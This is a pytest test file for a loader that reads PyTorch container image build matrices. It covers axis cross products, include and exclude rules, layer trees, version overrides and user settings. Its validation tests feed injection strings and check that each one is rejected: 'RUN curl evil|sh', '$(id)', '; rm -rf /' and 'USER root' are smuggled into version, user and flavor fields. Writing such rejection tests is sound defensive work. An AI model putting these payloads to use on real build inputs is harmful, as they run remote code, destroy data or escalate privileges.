from __future__ import annotations

import re
from pathlib import Path

import pytest

from imagebuilder.errors import InputError
from imagebuilder.input import lookups, matrix
from imagebuilder.input.compat import CompatTable

from ..conftest import MatrixWriter
from .test_certs import pem_certificate


def load(path: Path, table: CompatTable, **kw: object) -> matrix.Matrix:
    kw.setdefault("env", {})
    return matrix.load(path, table, **kw)  # type: ignore[arg-type]


def ids(m: matrix.Matrix) -> list[str]:
    return [e.id for e in m.entries]


def test_cross_product_in_axis_order(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    path = write_matrix(header + """
matrix:
  torch: ["2.6.0", "2.7.1"]
  accelerator: [cpu]
  python: ["3.10", "3.11"]
""")
    m = load(path, table)
    assert ids(m) == ["2.6.0-cpu-py3.10-runtime", "2.6.0-cpu-py3.11-runtime",
                      "2.7.1-cpu-py3.10-runtime", "2.7.1-cpu-py3.11-runtime"]


def test_entry_is_resolved_against_the_table(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    path = write_matrix(header + "matrix: {torch: [2.6.0], accelerator: [cu124], python: ['3.11']}\n")
    (e,) = load(path, table).entries
    assert (e.cuda, e.cudnn, e.nccl, e.triton) == ("12.4", "9.1.0.70", "2.21.5", "3.2.0")
    assert (e.torchvision, e.torchaudio) == ("0.21.0", "2.6.0")
    assert e.build.torch_index_url == "https://pypi.org/simple"  # PyPI's default variant
    assert dict(e.pins)["nvidia-nccl-cu12"] == "2.21.5"


def test_cpu_uses_pytorch_index_by_default(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    path = write_matrix(header + "matrix: {torch: [2.6.0], accelerator: [cpu], python: ['3.11']}\n")
    (e,) = load(path, table).entries
    assert e.build.torch_index_url == "https://download.pytorch.org/whl/cpu"
    assert e.cuda is None and e.nccl is None


def test_exclude_removes_partial_matches(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    path = write_matrix(header + """
matrix:
  torch: ["2.6.0", "2.7.1"]
  accelerator: [cpu]
  flavor: [runtime, devel]
  python: ["3.11"]
exclude:
  - {torch: "2.6.0", flavor: devel}
""")
    m = load(path, table)
    assert ids(m) == ["2.6.0-cpu-py3.11-runtime", "2.7.1-cpu-py3.11-runtime", "2.7.1-cpu-py3.11-devel"]
    assert m.excluded[0][0] == "torch=2.6.0, accelerator=cpu, flavor=devel, python=3.11"


def test_include_extends_matches_and_adds_new_entries(write_matrix: MatrixWriter, header: str,
                                                      table: CompatTable) -> None:
    path = write_matrix(header + """
matrix:
  torch: ["2.6.0", "2.7.1"]
  accelerator: [cpu]
  python: ["3.11"]
include:
  - {torch: "2.7.1", vars: {extra: yes}}           # extends the 2.7.1 entry
  - {torch: "2.6.0", accelerator: cu124, python: "3.11"}  # accelerator differs: a new entry
""")
    m = load(path, table)
    assert ids(m) == ["2.6.0-cpu-py3.11-runtime", "2.7.1-cpu-py3.11-runtime", "2.6.0-cu124-py3.11-runtime"]
    assert dict(m.entries[1].vars) == {"extra": "yes"}
    assert dict(m.entries[0].vars) == {}


def test_entry_key_overrides_top_level(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    path = write_matrix(header + """
matrix: {torch: ["2.6.0"], accelerator: [cpu, cu124], python: ["3.11"]}
include:
  - {accelerator: cu124, repository: pytorch-cuda, layers: [base]}
""")
    cpu, cuda = load(path, table).entries
    assert (cpu.repository, [s.name for s in cpu.layers]) == ("pytorch", ["base", "business", "task"])
    assert (cuda.repository, [s.name for s in cuda.layers]) == ("pytorch-cuda", ["base"])


@pytest.mark.parametrize(("body", "message", "hint"), [
    ("matrix: {torch: [2.6.0], acclerator: [cpu]}\n", "unknown key 'acclerator'", "did you mean 'accelerator'?"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nregistr: x\n", "unknown key 'registr'", "did you mean 'registry'"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nbuild: {ca_bundel: x}\n", "unknown key 'ca_bundel'",
     "did you mean 'ca_bundle'"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\ninclude: [{torhc: 2.6.0}]\n", "unknown key 'torhc'",
     "did you mean 'torch'"),
])
def test_unknown_keys_suggest(write_matrix: MatrixWriter, header: str, table: CompatTable, body: str, message: str,
                              hint: str) -> None:
    path = write_matrix(header + body)
    with pytest.raises(InputError, match=message) as err:
        load(path, table)
    assert err.value.hint is not None and hint in err.value.hint
    assert err.value.where is not None and err.value.where.file == str(path) and err.value.where.line


@pytest.mark.parametrize(("body", "message"), [
    ("matrix: {torch: [], accelerator: [cpu]}\n", "axis is empty"),
    ("matrix: {torch: ['2.6.0\\nRUN curl evil|sh'], accelerator: [cpu]}\n", "invalid torch"),
    ("matrix: {torch: [2.6.0], accelerator: ['$(id)']}\n", "invalid accelerator"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu], python: ['3.11; rm -rf /']}\n", "invalid python"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nvars: {x: 'a b'}\n", "invalid var"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu, cpu]}\n", "appears twice"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nsmoke: {allow_skip: throughput}\n", "expected a list"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nsmoke: {allow_skip: ['a b']}\n", "expected a check name"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nsmoke: {gpu_floors: [T4]}\n", "mapping of GPU name"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nsmoke: {gpu_floors: {T4: 0}}\n", "must be above 0"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nsmoke: {gpu_floors: {T4: fast}}\n", "invalid float"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nsmoke: {gpu_floors: {H100: 10}}\n",
     # a GPU the table knows: throughput_floor's bounds
     "floor 10 TFLOP/s for 'H100' is outside .250.5, 835. for NVIDIA H100 NVL, which it matches: 0.3 to 1 of its "
     "dense bf16 peak"),
    # issue 42 (G): a pattern is bounded by every GPU it matches, not by its own text
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nsmoke: {gpu_floors: {NVIDIA: 0.001}}\n",
     "floor 0.001 TFLOP/s for 'NVIDIA' is outside .* for NVIDIA GH200 480GB, which it matches"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nsmoke: {gpu_floors: {80GB: 0.001}}\n",
     "for '80GB' is outside .* for NVIDIA GH200 480GB, which it matches"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nsmoke: {gpu_floors: {NVIDIA: 300}}\n",
     "floor 300 TFLOP/s for 'NVIDIA' is outside .* for NVIDIA B200, which it matches"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nsmoke: {cpu_gflops_floor: 0}\n",
     "cpu_gflops_floor 0 is below 10 GFLOP/s"),
    # a baseline of no passes, or of a year of nightlies, is no baseline
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nsmoke: {history_window: 0}\n",
     r"history_window 0 is outside \[1, 50\]"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nsmoke: {history_window: 51}\n",
     r"history_window 51 is outside \[1, 50\]"),
    ("matrix: {torch: [2.6.0], accelerator: [cpu]}\nsmoke: {history_window: five}\n", "invalid int"),
])
def test_bad_values(write_matrix: MatrixWriter, header: str, table: CompatTable, body: str, message: str) -> None:
    with pytest.raises(InputError, match=message):
        load(write_matrix(header + body), table)


def test_unsupported_accelerator_names_alternatives(write_matrix: MatrixWriter, header: str,
                                                    table: CompatTable) -> None:
    path = write_matrix(header + "matrix: {torch: [2.7.1], accelerator: [cu124], python: ['3.11']}\n")
    with pytest.raises(InputError) as err:
        load(path, table)
    assert "torch 2.7.1 publishes cpu, cu126; not cu124" in err.value.message
    assert err.value.hint is not None and "2.6.0/cu124" in err.value.hint


def test_python_outside_release_range(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    path = write_matrix(header + "matrix: {torch: [2.9.0], accelerator: [cpu], python: ['3.9']}\n")
    with pytest.raises(InputError, match=r"torch 2.9.0 supports Python 3.10, 3.11, 3.12, 3.13; not 3.9"):
        load(path, table)


def load_with(path: Path, table: CompatTable, *, base_python: lookups.BasePython | None = None,
              index_versions: lookups.IndexVersions | None = None) -> matrix.Matrix:
    """As the CLI loads: read, answer what the file asked (`lookups`), read again with the answers."""
    first = load(path, table)
    facts = lookups.answer(first.questions, base_python=base_python or (lambda image: None),
                           index_versions=index_versions)
    return load(path, table, facts=facts)


def test_the_loader_only_reads_and_says_what_it_needs(write_matrix: MatrixWriter, header: str,
                                                      table: CompatTable) -> None:
    """A first load asks (the base image's Python, an index's versions) and resolves what needs no answer."""
    path = write_matrix(header.replace("debian:bookworm", "example/py:1") + CUDA.replace("python: ['3.11']}",
                        "python: ['3.11']}") + "include: [{accelerator: cu124, nccl: 2.23.4}, "
                        "{torch: 2.6.0, accelerator: cpu}]\n")
    first = load(path, table)
    assert first.questions.base_images == {"example/py:1"}  # the cpu include names no python
    assert first.questions.index == {("https://pypi.org/simple", "nvidia-nccl-cu12")}
    assert [e.accelerator for e in first.entries] == ["cu124"]  # the one that needs no answer
    asked: list[str] = []
    second = load_with(path, table, base_python=lambda image: asked.append(image) or "3.12",
                       index_versions=_index({"nvidia-nccl-cu12": ["2.23.4"]}))
    assert asked == ["example/py:1"] and [e.python for e in second.entries] == ["3.11", "3.12"]
    assert not load(write_matrix(header + CUDA), table).questions  # names its Python, overrides nothing


def test_python_defaults_to_the_base_images(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    path = write_matrix(header + "matrix: {torch: [2.6.0], accelerator: [cpu]}\n")
    (e,) = load(path, table).entries  # (the OS table knows debian:bookworm's: nothing to ask)
    assert e.python == "3.11" and e.flavor == "runtime"
    path = write_matrix(header.replace("debian:bookworm", "example/py:1")
                        + "matrix: {torch: [2.6.0], accelerator: [cpu]}\n")
    (e,) = load_with(path, table, base_python=lambda image: "3.12" if image == "example/py:1" else None).entries
    assert e.python == "3.12"
    with pytest.raises(InputError, match="Python of base image 'example/py:1' is unknown"):
        load_with(path, table, base_python=lambda image: None)


def test_layer_tree_shares_parents(write_matrix: MatrixWriter, table: CompatTable) -> None:
    path = write_matrix("""
base_image: debian:bookworm
registry: r:5000
repository: p
layers:
  - base
  - business
  - task
  - {layer: task, name: eval, parent: business}
matrix: {torch: [2.6.0], accelerator: [cpu], python: ["3.11"]}
""")
    (e,) = load(path, table).entries
    assert [(s.name, s.layer, s.parent) for s in e.layers] == [
        ("base", "base", None), ("business", "business", "base"), ("task", "task", "business"),
        ("eval", "task", "business")]
    assert [s.name for s in e.leaves()] == ["task", "eval"]


@pytest.mark.parametrize(("layers", "message"), [
    ("[base, {layer: task, parent: bussiness}]", "parent 'bussiness' of layer 'task' is not in this layer tree"),
    ("[{layer: a, parent: b}, {layer: b, parent: a}]", "cycle: a -> b -> a"),
    ("[base, base]", "appears twice"),
    ("[]", "must not be empty"),
    # `when:` on a layer spec
    ("[{layer: base, when: {flavour: devel}}]", "unknown key 'flavour'"),
    ("[{layer: base, when: {flavor: []}}]", "`when: flavor` needs at least one value"),
    ("[{layer: base, when: {flavor: 'devel; id'}}]", "invalid glob 'devel; id'"),
    ("[{layer: base, when: {flavor: gpu}}]", "no layer of the tree applies"),
])
def test_layer_tree_errors(write_matrix: MatrixWriter, table: CompatTable, layers: str, message: str) -> None:
    path = write_matrix(f"""
base_image: debian:bookworm
registry: r:5000
repository: p
layers: {layers}
matrix: {{torch: [2.6.0], accelerator: [cpu], python: ["3.11"]}}
""")
    with pytest.raises(InputError, match=re.escape(message)):
        load(path, table)


def test_when_keeps_a_node_to_the_entries_it_matches(write_matrix: MatrixWriter, table: CompatTable) -> None:
    """A node left out by `when:` hands its children to its parent: devel sits between base and task only in
    devel entries, a CUDA-only node is left out of CPU entries."""
    path = write_matrix("""
base_image: debian:bookworm
registry: r:5000
repository: p
layers:
  - base
  - {layer: cuda, when: {accelerator: "cu*"}}
  - {layer: devel, when: {flavor: [devel]}}
  - task
matrix: {torch: [2.6.0], accelerator: [cpu], python: ["3.11"], flavor: [runtime, devel]}
""")
    trees = {e.flavor: [(s.name, s.parent) for s in e.layers] for e in load(path, table).entries}
    assert trees == {"runtime": [("base", None), ("task", "base")],
                     "devel": [("base", None), ("devel", "base"), ("task", "devel")]}


def test_duplicate_entries(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    path = write_matrix(header + """
matrix: {torch: [2.6.0], accelerator: [cpu], python: ["3.11"]}
include:
  - {torch: 2.6.0, accelerator: cpu, python: "3.11", flavor: runtime, base_image: debian:bookworm}
""")
    # The include matches the existing entry (same axis values), so it extends it: no duplicate.
    assert len(load(path, table).entries) == 1
    path = write_matrix(header + """
matrix: {torch: [2.6.0], accelerator: [cpu], python: ["3.11"]}
include:
  - {torch: 2.7.1, accelerator: cpu, python: "3.11"}
  - {torch: 2.7.1, accelerator: cpu, python: "3.11"}
""")
    with pytest.raises(InputError, match=r"duplicate entries '2\.7\.1-cpu-py3\.11-runtime'"):
        load(path, table)


def test_exclude_matching_nothing_warns_or_fails_under_strict(write_matrix: MatrixWriter, header: str,
                                                               table: CompatTable) -> None:
    path = write_matrix(header + """
matrix: {torch: [2.6.0], accelerator: [cpu], python: ["3.11"]}
exclude: [{torch: 2.7.1}]
""")
    assert "matches no entry" in load(path, table).warnings[0]
    with pytest.raises(InputError, match="matches no entry"):
        load(path, table, strict=True)


def test_build_settings(write_matrix: MatrixWriter, header: str, table: CompatTable, tmp_path: Path) -> None:
    (tmp_path / "wheels").mkdir()
    ca = tmp_path / "corp.pem"
    ca.write_bytes(pem_certificate())
    path = write_matrix(header + """
matrix: {torch: [2.6.0], accelerator: [cpu], python: ["3.11"]}
build:
  wheelhouse: wheels
  pip_index_url: {cpu: "https://mirror.example/torch-{accelerator}"}
""")
    (e,) = load(path, table, env={"PIP_CERT": str(ca)}).entries
    assert e.build.wheelhouse == tmp_path / "wheels"
    assert e.build.ca_bundle == ca
    assert e.build.torch_index_url == "https://mirror.example/torch-cpu"
    (e,) = load(path, table, env={}).entries
    assert e.build.ca_bundle is None


@pytest.mark.parametrize(("build", "message"), [
    ("{wheelhouse: nowhere}", "folder 'nowhere' does not exist"),
    ("{ca_bundle: missing.pem}", "file 'missing.pem' does not exist"),
])
def test_missing_build_paths(write_matrix: MatrixWriter, header: str, table: CompatTable, build: str,
                             message: str) -> None:
    path = write_matrix(header + f"matrix: {{torch: [2.6.0], accelerator: [cpu], python: ['3.11']}}\nbuild: {build}\n")
    with pytest.raises(InputError, match=message):
        load(path, table)


def test_registry_override(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    path = write_matrix(header + "matrix: {torch: [2.6.0], accelerator: [cpu], python: ['3.11']}\n")
    (e,) = load(path, table, registry="localhost:5001/team").entries
    assert e.registry == "localhost:5001/team"
    with pytest.raises(InputError, match="invalid registry"):
        load(path, table, registry="bad registry")


def test_wrong_top_level_type(write_matrix: MatrixWriter, table: CompatTable) -> None:
    with pytest.raises(InputError, match="must be a mapping of keys, got a list"):
        load(write_matrix("- a\n- b\n"), table)


def test_unsupported_version(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    path = write_matrix(header.replace("version: 1", "version: 2") + "matrix: {torch: [2.6.0], accelerator: [cpu]}\n")
    with pytest.raises(InputError, match="unsupported matrix version '2'"):
        load(path, table)


def _index(versions: dict[str, list[str]]) -> lookups.IndexVersions:
    def lookup(index_url: str, project: str) -> list[str] | None:
        assert index_url == "https://pypi.org/simple"
        return versions.get(project)
    return lookup


CUDA = "matrix: {torch: [2.6.0], accelerator: [cu124], python: ['3.11']}\n"


def test_nccl_override_replaces_the_pin(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    path = write_matrix(header + CUDA + "include: [{accelerator: cu124, nccl: 2.23.4}]\n")
    (e,) = load_with(path, table, index_versions=_index({"nvidia-nccl-cu12": ["2.21.5", "2.23.4"]})).entries
    assert e.nccl == "2.23.4" and e.cudnn == "9.1.0.70"
    assert e.overrides == (("nvidia-nccl-cu12", "2.23.4"),)
    assert dict(e.pins)["nvidia-nccl-cu12"] == "2.21.5"  # torch's own pin still installs torch


@pytest.mark.parametrize(("extra", "message"), [
    ("include: [{accelerator: cu124, nccl: 2.99.1}]\n", r"nvidia-nccl-cu12==2\.99\.1 does not exist on"),
    ("include: [{accelerator: cu124, cudnn: 8.9.7.29}]\n", "cudnn 8.9.7.29 crosses a major version"),
    ("include: [{accelerator: cu124, nccl: '2.23.4; rm -rf /'}]\n", "invalid libversion"),
    ("include: [{accelerator: cu124, nccl: 2.23.4, allow_major_override: 'yes'}]\n", "expected true or false"),
])
def test_override_errors(write_matrix: MatrixWriter, header: str, table: CompatTable, extra: str,
                         message: str) -> None:
    index = _index({"nvidia-nccl-cu12": ["2.21.5", "2.23.4"], "nvidia-cudnn-cu12": ["8.9.7.29", "9.1.0.70"]})
    with pytest.raises(InputError, match=message):
        load_with(write_matrix(header + CUDA + extra), table, index_versions=index)


def test_major_override_when_allowed(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    path = write_matrix(header + CUDA
                        + "include: [{accelerator: cu124, cudnn: 8.9.7.29, allow_major_override: true}]\n")
    (e,) = load_with(path, table, index_versions=_index({"nvidia-cudnn-cu12": ["8.9.7.29"]})).entries
    assert e.cudnn == "8.9.7.29"


def test_cpu_has_nothing_to_override(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    path = write_matrix(header + "matrix: {torch: [2.6.0], accelerator: [cpu], python: ['3.11']}\nnccl: 2.23.4\n")
    with pytest.raises(InputError, match="overrides nothing"):
        load(path, table)


def test_unreachable_index_only_warns(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    def down(index_url: str, project: str) -> list[str] | None:
        raise OSError("connection refused")
    path = write_matrix(header + CUDA + "include: [{accelerator: cu124, nccl: 2.23.4}]\n")
    m = load_with(path, table, index_versions=down)
    assert m.entries[0].nccl == "2.23.4"
    assert "could not check nvidia-nccl-cu12==2.23.4" in m.warnings[0]


def test_user_defaults_and_overrides(write_matrix: MatrixWriter, header: str, table: CompatTable) -> None:
    path = write_matrix(header + """
user: {name: researcher, uid: 4242}
matrix: {torch: [2.6.0], accelerator: [cpu], python: ['3.11']}
include:
  - {torch: "2.7.1", accelerator: cpu, python: "3.11", user: {uid: 2000, gid: 2000}}
""")
    first, second = load(path, table).entries
    assert first.user == matrix.UserSpec("researcher", 4242, 1000, "/workspace")
    assert second.user == matrix.UserSpec("researcher", 2000, 2000, "/workspace")  # merged key by key
    assert second.user.home == "/home/researcher"
    plain = write_matrix(header + "matrix: {torch: [2.6.0], accelerator: [cpu], python: ['3.11']}\n", "plain.yaml")
    assert load(plain, table).entries[0].user == matrix.UserSpec("ml", 1000, 1000, "/workspace")


@pytest.mark.parametrize(("user", "message"), [
    ("{uid: 0}", "uid 0 is root"),
    ("{gid: 0}", "gid 0 is root"),
    ("{name: root}", "non-root user"),
    ("{name: 'ml; rm -rf /'}", "invalid username"),
    ("{uid: -5}", "invalid id"),
    ("{uid: '1000\\nUSER root'}", "invalid id"),
    ("{workdir: relative/path}", "invalid abspath"),
    ("{workdir: /usr}", "system folder"),
    ("{home: /x}", "unknown key 'home'"),
    ("[ml]", "expected a mapping"),
])
def test_bad_users(write_matrix: MatrixWriter, header: str, table: CompatTable, user: str, message: str) -> None:
    path = write_matrix(header + f"user: {user}\nmatrix: {{torch: [2.6.0], accelerator: [cpu], python: ['3.11']}}\n")
    with pytest.raises(InputError, match=message) as err:
        load(path, table)
    assert err.value.where is not None and err.value.where.line == 6  # the `user:` line of the file


def test_cuda_devel_gets_the_toolkit_torch_pins() -> None:
    variant = CompatTable.load().release("2.11.0").variant("cu130")  # type: ignore[union-attr]
    assert variant is not None
    assert matrix.cuda_toolkit(variant, "pip") == ("cuda-toolkit[cccl,crt,nvcc,nvvm]==13.0.2",)
    assert matrix.cuda_toolkit(variant, "image") == ()


def test_cuda12_devel_needs_a_toolkit_from_the_image(write_matrix: MatrixWriter, header: str,
                                                     table: CompatTable) -> None:
    body = "matrix: {torch: [2.6.0], accelerator: [cu124], python: ['3.11'], flavor: [devel]}\n"
    with pytest.raises(InputError, match=r"NVIDIA publishes no nvcc for CUDA 12\.4 on PyPI") as err:
        load(write_matrix(header + body), table)
    assert "cuda_toolkit: image" in str(err.value.hint)
    (entry,) = load(write_matrix(header + "build: {cuda_toolkit: image}\n" + body, "image.yaml"), table).entries
    assert entry.toolkit == () and entry.build.cuda_toolkit == "image"
    (runtime,) = load(write_matrix(header + body.replace("devel", "runtime"), "rt.yaml"), table).entries
    assert runtime.toolkit == ()


def test_allow_skip_and_gpu_floors_reach_the_entry(write_matrix: MatrixWriter, header: str,
                                                   table: CompatTable) -> None:
    path = write_matrix(header + "matrix: {torch: [2.6.0], accelerator: [cpu]}\n"
                        "smoke: {allow_skip: [versions.driver, 'toolchain.*'], gpu_floors: {Tesla T4: 40.5, "
                        "H100 PCIe: 500}}\n")
    smoke = load(path, table).entries[0].smoke
    assert smoke.allow_skip == ("versions.driver", "toolchain.*")
    assert smoke.gpu_floors == (("Tesla T4", 40.5), ("H100 PCIe", 500.0))  # within every GPU they match
